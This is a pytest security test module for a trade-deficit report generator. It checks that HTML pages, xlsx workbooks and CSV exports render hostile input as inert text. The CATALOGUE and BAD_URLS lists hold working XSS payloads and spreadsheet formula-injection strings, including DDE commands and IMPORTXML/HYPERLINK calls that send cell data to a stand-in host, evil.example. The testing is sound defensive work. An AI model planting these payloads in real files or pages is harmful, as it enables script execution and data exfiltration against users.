"""A report never runs what its inputs say (issue 24): text stays text in the page, the workbook and the CSV.

Inputs are tried as an attacker would, with a named run and a dataset of one's own
(a shared schedule or a colleague's dataset is exactly that). :data:`CATALOGUE`
holds the payloads: HTML and SVG/MathML tags with event handlers, Markdown links to
``javascript:`` (encoded ``java&#115;cript:``, mixed case, whitespace before the
scheme), template and math syntax, and spreadsheet formulas (``=1+1``,
``cmd|' /C calc'!A0``, ``IMPORTXML``, ``HYPERLINK``, ``@``, ``+``, ``-``, tab, CR).

Fast checks feed them to each builder of page text (title block, notes, key
findings, source list) and to the workbook and CSV writers. The slow check runs
``deficit-report run`` for the 1994 run and the China run (us-china-2019) with the
payloads in the title, the data folder's name and every free-text column of the
dataset (labels, notes, quotes, publishers, source titles, deal titles, a source
id), opens each page in headless Chromium (tests/test_browser.py's browser) and
compares it with the same run on the shipped inputs: no dialog, the same count
of every tag, no event-handler attribute, the title shown character for
character, no formula cell in report.xlsx (openpyxl) and none a spreadsheet
would run in data/*.csv. The four reports are built once for the module.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

import test_browser
from cases import CHINA_DIR, FRAMEWORK_DIR
from deficit_report.cli import main
from deficit_report.paths import PARAMS_DIR

#: Headless Chromium as the browser tests drive it (/usr/bin/chromium, skipped or failed as they are).
browser = test_browser.browser

#: The issue's title: three dialogs fired from it in Chromium before the fix.
TITLE = '<script>alert(1)</script> "><img src=x onerror=alert(2)> [l](javascript:alert(3))'
#: The issue's data folder name (a backtick ends the Markdown code span it was shown in): dialog 77.
DATA_DIR_NAME = "data `x` <img src=x onerror=alert(77)>"
#: Text that must show as it is: ampersand, quotes, dollars (not MathJax), template and Markdown syntax.
PLAIN_TITLE = 'AT&T\'s "tariffs" cost $5 & $6 -- <b>not bold</b> {{7*7}} *no* _emphasis_ `code`'

#: The catalogue of injection inputs: (id, text). Numbers in alert() tell a dialog's source apart.
CATALOGUE = [
    ("issue-title", TITLE),
    ("img-onerror", "<img src=x onerror=alert(4)>"),
    ("svg-onload", "<svg onload=alert(5)>"),
    ("svg-script", "<svg><script>alert(6)</script></svg>"),
    ("mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>"),
    ("mathml-href", '<math href="javascript:alert(8)">click</math>'),
    ("markdown-encoded-scheme", "[x](java&#115;cript:alert(9))"),
    ("markdown-mixed-case", "[x](JaVaScRiPt:alert(10))"),
    ("markdown-space-before-scheme", "[x]( \tjavascript:alert(11))"),
    ("markdown-data-url", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=)"),
    ("markdown-vbscript", "[x](vbscript:msgbox(13))"),
    ("markdown-image-attribute", '![i](x" onerror="alert(14))'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(15)</script>"></iframe>'),
    ("details-ontoggle", "<details open ontoggle=alert(16)>"),
    ("anchor-javascript", '<a href="javascript:alert(17)">link</a>'),
    ("closing-tags", "</textarea></title></style></script><img src=x onerror=alert(18)>"),
    ("comment-breakout", "--><img src=x onerror=alert(19)><!--"),
    (
        "base-and-meta",
        '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(20)">',
    ),
    ("form-action", '<form action="javascript:alert(21)"><button>go</button></form>'),
    ("style-block", "<style>body{display:none}</style>"),
    ("autolink", "<javascript:alert(22)>"),
    ("template-and-math", "{{7*7}} ${x}$ $$y$$ \\(z\\) &amp; &lt;b&gt;"),
    ("formula-sum", "=1+1"),
    ("formula-dde", "=cmd|' /C calc'!A0"),
    ("formula-importxml", '=IMPORTXML(CONCAT("http://evil.example/?d=",A1),"//a")'),
    ("formula-hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"click")'),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-plus", "+1+1"),
    ("formula-minus", "-1+1"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
    ("formula-after-cr", 'Autos\r=HYPERLINK("http://evil.example/","x")'),
]
#: What a spreadsheet would run: text starting with one of these, unless it is a plain number.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: URLs a source may not give: refused when the dataset is checked, with a one-line error.
BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://example.org/"><svg/onload=alert(1)>',
    "https://example.org/a<b>",
    "https://example.org/a\x01b",
]


def plain_number(text: str) -> bool:
    """Say whether a spreadsheet reads the text as a number (``-65.7``, ``+3``, ``1e3``)."""
    return re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text) is not None


def would_run(text: str) -> bool:
    """Say whether a spreadsheet opening a CSV would read this cell as a formula."""
    return text.startswith(FORMULA_START) and not plain_number(text)


# --------------------------------------------------------------------------- what a page shows


class Elements(HTMLParser):
    """The elements of an HTML fragment (tag and attributes) and its text, as a browser's parser reads them."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.parts: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.parts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.parts)


def shown_html(obj) -> tuple[str, str]:
    """Return what nbconvert puts in the page for a displayed object, and the Markdown it was given (if any).

    nbconvert prefers ``text/html`` over ``text/markdown`` (its display priority); Markdown is
    rendered as the report's HTML exporter renders it (mistune, raw HTML passed through).
    """
    from IPython.core.formatters import format_display_data
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    data, _ = format_display_data(obj)
    markdown = data.get("text/markdown", "")
    page = data["text/html"] if "text/html" in data else markdown2html_mistune(markdown)
    return page, markdown


def assert_only_text(obj, allowed: set[str], expected_text: list[str]) -> None:
    """The object's page and its Markdown hold only the builder's own tags, and show each text as it is."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    page, markdown = shown_html(obj)
    for fragment in [page, markdown2html_mistune(markdown)] if markdown else [page]:
        found = Elements(fragment)
        tags = {tag for tag, _ in found.tags}
        assert tags <= allowed, f"injected elements {sorted(tags - allowed)} in {fragment[:300]!r}"
        handlers = [(tag, a) for tag, attrs in found.tags for a in attrs if a.startswith("on")]
        assert handlers == []
        links = [attrs.get("href", "") for tag, attrs in found.tags if tag == "a"]
        # links go to a section or source of the page, a source's web page, or the report's data files
        assert all(h.startswith(("#", "http://", "https://", "data/", "report.xlsx")) for h in links), links
        for text in expected_text:
            # the text is shown character for character (line breaks and tabs as spaces in Markdown)
            assert re.sub(r"\s", " ", text) in re.sub(r"\s", " ", found.text), (text, found.text[:300])


@pytest.mark.parametrize("case_id,payload", CATALOGUE, ids=[c[0] for c in CATALOGUE])
def test_notes_show_the_payload_as_text(case_id, payload):
    from deficit_report.rendering import tables

    assert_only_text(tables.note(f"{payload} held 55.9%"), {"p", "strong"}, [payload])
    assert_only_text(tables.note([payload, "second"]), {"ul", "li"}, [payload, "second"])


@pytest.mark.parametrize("case_id,payload", CATALOGUE, ids=[c[0] for c in CATALOGUE])
def test_title_block_shows_title_and_data_folder_as_text(case_id, payload):
    from deficit_report.rendering import tables

    params = SimpleNamespace(
        title=payload, partner="JPN", measure="balance", focus_year=1994, compare_year=1992,
        as_of="1994-06-06", data_dir=f"{DATA_DIR_NAME}/{payload}", vintage_order=["press", payload],
    )  # fmt: skip
    block = tables.title_block(SimpleNamespace(params=params, has_status_data=lambda: True))
    # ("a": the heading's own anchor link, which Markdown renderers add, pointing into the page)
    assert_only_text(block, {"div", "h1", "a", "p", "strong", "code"}, [payload, f"{DATA_DIR_NAME}/{payload}"])
    page, _ = shown_html(block)
    headings = Elements(page.split("<h1", 1)[1].split("</h1>", 1)[0].join(["<h1", "</h1>"]))
    assert headings.text == payload.replace("\t", "\t")  # the h1 holds exactly the title, nothing added


@pytest.mark.parametrize("case_id,payload", CATALOGUE, ids=[c[0] for c in CATALOGUE])
def test_findings_and_sources_show_data_text_as_text(case_id, payload):
    from deficit_report.rendering import tables

    findings = pd.DataFrame(
        {"text": [f"{payload} held 55.9% of -$65.7 bn."], "section": ["Headline"], "source_ids": [f"ap; {payload}"]}
    )
    shown = tables.findings(findings)
    assert_only_text(shown, {"ul", "li", "small", "a"}, [f"{payload} held 55.9% of -$65.7 bn."])
    sources = pd.DataFrame(
        {"source_id": [payload], "publisher": [payload], "title": [payload], "date": [payload],
         "url": ["https://example.org/a"], "quote": [payload]}
    )  # fmt: skip
    shown = tables.source_list(sources)
    assert_only_text(shown, {"details", "summary", "span", "ul", "li", "b", "i", "strong", "em", "a", "p"}, [payload])


def test_a_link_is_made_only_to_http_https_or_the_page(tmp_path):
    from deficit_report.rendering import tables

    sources = pd.DataFrame(
        {"source_id": [f"s{i}" for i in range(len(BAD_URLS))], "publisher": "p", "title": "t", "date": "",
         "url": BAD_URLS, "quote": ""}
    )  # fmt: skip
    page, markdown = shown_html(tables.source_list(sources))
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    for fragment in (page, markdown2html_mistune(markdown)):
        hrefs = [a.get("href", "") for tag, a in Elements(fragment).tags if tag == "a"]
        # the data links under the list (data/sources.csv, report.xlsx) are the only links left
        assert [h for h in hrefs if not h.startswith(("data/", "report.xlsx"))] == []


# --------------------------------------------------------------------------- the page's policy


def test_page_runs_no_script_and_loads_nothing():
    import nbformat

    from deficit_report.rendering.html import notebook_to_html

    nb = nbformat.v4.new_notebook(metadata={"title": "t"})
    nb.cells.append(nbformat.v4.new_markdown_cell("# Hello"))
    page = notebook_to_html(nb)
    head = page.split("</head>", 1)[0]
    metas = [a for tag, a in Elements(head).tags if tag == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
    assert len(metas) == 1
    policy = dict(part.strip().split(" ", 1) for part in metas[0]["content"].split(";"))
    assert policy["default-src"] == "'none'"  # nothing from the network, no frames, no objects
    assert policy["script-src"] == "'none'"  # the report needs no script: no inline script, no handler runs
    assert policy["img-src"] == "data:"  # the charts are data: images
    assert "<script" not in page  # and the page holds none
    assert notebook_to_html(nb) == page  # the same bytes each time


# --------------------------------------------------------------------------- workbook and CSV


def payload_frame() -> pd.DataFrame:
    """Every payload as a label, beside a negative number, a number-like text and a positive number."""
    return pd.DataFrame(
        {
            "label": [payload for _, payload in CATALOGUE],
            "value_usd_m": [-65700.0 - i for i in range(len(CATALOGUE))],
            "vintage": ["-65.7"] + [f"+{i}" for i in range(1, len(CATALOGUE))],
            "count": list(range(len(CATALOGUE))),
        }
    )


def test_workbook_writes_formula_text_as_text(tmp_path):
    import openpyxl

    from deficit_report.running.exports import write_workbook

    frame = payload_frame()
    path = write_workbook(tmp_path / "report.xlsx", {"composition": frame}, {"title": "=1+1", "partner": "JPN"})
    book = openpyxl.load_workbook(path)
    formulas = [
        (ws.title, c.coordinate, c.value) for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    sheet = book["composition"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # each text exactly as given, as text (the file escapes a CR as _x000D_, which Excel reads back as CR)
    assert [re.sub("_x000D_", "\r", r[0]) for r in rows] == list(frame["label"])
    assert [r[1] for r in rows] == list(frame["value_usd_m"])  # negative numbers stay numbers
    assert all(isinstance(r[1], (int, float)) and r[1] < 0 for r in rows)
    assert [r[2] for r in rows] == list(frame["vintage"])  # text that looks like a number stays that text
    assert book["parameters"]["B2"].value == "=1+1" and book["parameters"]["B2"].data_type == "s"


def test_csv_prefixes_only_what_a_spreadsheet_would_run():
    from deficit_report.running.exports import csv_text

    frame = payload_frame()
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["label", "value_usd_m", "vintage", "count"]
    assert len(rows) == 1 + len(CATALOGUE)  # one row per row: no CR inside a cell ends its row
    for (_, payload), (label, value, vintage, count) in zip(CATALOGUE, rows[1:]):
        assert not would_run(label), label
        # a formula gets one leading apostrophe, other text is unchanged but for a CR written as a line break
        assert label == ("'" + payload if would_run(payload) else payload).replace("\r", "\n")
        assert float(value) < 0 and not value.startswith("'")  # -65700.0 is a number, written as one
        assert vintage in ("-65.7", f"+{int(count)}")  # number-like text is not prefixed
    assert sum(would_run(p) for _, p in CATALOGUE) >= 9


# --------------------------------------------------------------------------- validation


def write_run(params_dir: Path, name: str, base: str, **changes) -> None:
    """Write a named run: the shipped run ``base`` with some parameters changed (values as JSON, valid YAML)."""
    lines = [
        line
        for line in (PARAMS_DIR / f"{base}.yaml").read_text(encoding="utf-8").splitlines()
        if line.split(":", 1)[0] not in changes and not line.startswith("#")
    ]
    lines += [f"{key}: {json.dumps(value)}" for key, value in changes.items()]
    (params_dir / f"{name}.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")


@pytest.mark.parametrize("url", BAD_URLS)
def test_unsafe_source_urls_are_refused_in_one_line(tmp_path, capsys, url):
    data, params = tmp_path / "data", tmp_path / "params"
    shutil.copytree(FRAMEWORK_DIR, data)
    params.mkdir()
    sources = pd.read_csv(data / "sources.csv", dtype=str, keep_default_na=False)
    sources.loc[0, "url"] = url
    sources.to_csv(data / "sources.csv", index=False, lineterminator="\n")
    write_run(params, "bad-url", "us-japan-framework-1994", data_dir=str(data))
    assert main(["validate", "bad-url", "--params-dir", str(params)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1, err
    # the URL check names the column; a control character is refused sooner, by the CSV reader, on its line
    assert "sources.csv, line 2" in err and ("'url'" in err or "control character" in err), err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    "title,expected",
    [
        ("T" * 10_000_000, "parameter 'title': expected a title of at most 500 characters, got 10,000,000"),
        ("Autos\n<script>alert(1)</script>", "parameter 'title': expected one line without control characters"),
    ],
    ids=["10-MB-title", "title-with-a-line-break"],
)
def test_a_title_is_one_line_of_reasonable_length(tmp_path, capsys, title, expected):
    params, out = tmp_path / "params", tmp_path / "out"
    params.mkdir()
    write_run(params, "big", "us-japan-framework-1994", title=title)
    assert main(["run", "big", "--params-dir", str(params), "--output-dir", str(out), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and expected in err, err[:500]
    assert not (out / "big").exists()


# --------------------------------------------------------------------------- the runs, in Chromium

#: Free-text columns of a dataset's tables: each gets a payload (the original text kept after it).
FREE_TEXT = ("label", "note", "publisher", "title", "quote", "computed_by")


def inject_dataset(source: Path, target: Path, renamed_source: str) -> None:
    """Copy a dataset with a payload at the start of every free-text cell and one source id renamed to a payload.

    Payloads rotate over the catalogue; one text gets one payload wherever it appears in a
    column (``computed_by`` is compared between rows), and the original text is kept after
    it, so labels stay distinct and the analysis is the same as on the shipped data.
    """
    shutil.copytree(source, target, ignore=shutil.ignore_patterns("tracker", "*.md", "status_timeline.csv"))
    payloads = [p for _, p in CATALOGUE]
    new_id = "src <img src=x onerror=alert(30)> `x` [y](javascript:alert(31))"
    n = 0
    for path in sorted(target.glob("*.csv")):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in frame.columns:
            if column in FREE_TEXT:
                injected = {}
                for text in dict.fromkeys(frame[column]):
                    injected[text] = payloads[n % len(payloads)] + (" " + text if text else "")
                    n += 1
                frame[column] = frame[column].map(injected)
            if column == "source_id":
                frame[column] = [
                    "; ".join(new_id if part.strip() == renamed_source else part.strip() for part in cell.split(";"))
                    for cell in frame[column]
                ]
        frame.to_csv(path, index=False, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a CR stays in its cell


RUNS = {
    # run: (its dataset, a source it cites in a key finding, the injected title)
    "us-japan-framework-1994": (FRAMEWORK_DIR, "ap-1995-02-18", TITLE),
    "us-china-2019": (CHINA_DIR, "tracker-imports-naics", PLAIN_TITLE),
}


@pytest.fixture(scope="module")
def injected_runs(tmp_path_factory):
    """Each run twice: on the shipped inputs, and with payloads in the title, the data folder's name and the data."""
    root = tmp_path_factory.mktemp("injection")
    params, out = root / "params", root / "reports"
    params.mkdir()
    folders = {}
    for run, (dataset, source_id, title) in RUNS.items():
        data = root / run / DATA_DIR_NAME
        data.parent.mkdir()
        inject_dataset(dataset, data, source_id)
        write_run(params, f"{run}-injected", run, data_dir=str(data), title=title)
        for name in (run, f"{run}-injected"):
            where = PARAMS_DIR if name == run else params
            assert main(["run", name, "--params-dir", str(where), "--output-dir", str(out), "--quiet"]) == 0
            folders[name] = out / name
    return folders


PAGE_FACTS = """() => {
    const tags = {};
    const handlers = [], links = [];
    for (const e of document.querySelectorAll('*')) {
        const t = e.tagName.toLowerCase();
        tags[t] = (tags[t] || 0) + 1;
        for (const a of e.attributes) {
            if (a.name.startsWith('on')) handlers.push(t + ' ' + a.name);
            if (['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'xlink:href'].includes(a.name))
                links.push(a.value.slice(0, 40));
        }
    }
    return {tags, handlers, links, h1: document.querySelector('h1').textContent,
            text: document.body.textContent};
}"""


def open_page(browser, html: Path) -> tuple[dict, list[str], list[str]]:
    """Open a report, open every folded block, and return its facts, the dialogs that fired and page errors."""
    page = browser.new_page(viewport={"width": 1100, "height": 900})
    dialogs, errors = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.route("**/*", lambda r: r.continue_() if r.request.url.startswith(("file:", "data:")) else r.abort())
    page.goto(html.as_uri(), wait_until="load")
    page.wait_for_load_state("networkidle")
    for summary in page.locator("details > summary").all():  # a handler may wait for a toggle or a hover
        summary.click()
        summary.hover()
    page.wait_for_load_state("networkidle")
    facts = page.evaluate(PAGE_FACTS)
    page.close()
    return facts, dialogs, errors


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.parametrize("run", list(RUNS))
def test_injected_run_shows_text_and_runs_nothing_in_chromium(browser, injected_runs, run):
    benign, _, _ = open_page(browser, injected_runs[run] / "report.html")
    facts, dialogs, errors = open_page(browser, injected_runs[f"{run}-injected"] / "report.html")
    assert dialogs == [], f"dialogs fired: {dialogs}"
    assert facts["handlers"] == []
    # no element injected: the same count of every tag as the same report on the shipped inputs
    changed = {t: (benign["tags"].get(t, 0), n) for t, n in facts["tags"].items() if benign["tags"].get(t, 0) != n}
    changed |= {t: (n, 0) for t, n in benign["tags"].items() if t not in facts["tags"]}
    assert changed == {}, f"tag counts (shipped inputs, injected) differ: {changed}"
    assert all(not re.match(r"\s*(javascript|vbscript|data:text)", link, re.I) for link in facts["links"])
    assert errors == []  # nothing was even tried (a blocked script or image would log a CSP error)
    title = RUNS[run][2]
    assert facts["h1"] == title  # the title character for character: &, quotes, $ and tags as text
    text = re.sub(r"\s+", " ", facts["text"])
    assert f"{DATA_DIR_NAME}." in text  # the Data: line shows the folder's name as text
    assert "src <img src=x onerror=alert(30)> `x` [y](javascript:alert(31))" in text  # a source id, in sources
    assert "<svg onload=alert(5)>" in text and "=cmd|' /C calc'!A0" in text  # data payloads, as text


@pytest.mark.slow
@pytest.mark.parametrize("run", list(RUNS))
def test_injected_run_has_no_formula_in_workbook_or_csv(injected_runs, run):
    import openpyxl

    folder = injected_runs[f"{run}-injected"]
    book = openpyxl.load_workbook(folder / "report.xlsx")
    cells = [c for ws in book for row in ws.iter_rows() for c in row]
    assert [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"] == []
    texts = Counter(c.value for c in cells if c.data_type == "s")
    assert any(str(v).startswith("=1+1") for v in texts)  # the payloads reached the workbook, as text
    numbers = [c.value for c in cells if c.data_type == "n" and isinstance(c.value, (int, float))]
    assert any(v < 0 for v in numbers)  # the deficit is still a negative number
    would = []
    for path in sorted((folder / "data").glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            would += [(path.name, cell[:40]) for cell in row if would_run(cell)]
    assert would == []
    prefixed = [cell for p in (folder / "data").glob("*.csv") for r in csv.reader(p.open(newline="")) for cell in r]
    assert any(cell.startswith("'=1+1") for cell in prefixed)
    assert any(plain_number(cell) and cell.startswith("-") for cell in prefixed)  # negative numbers unprefixed
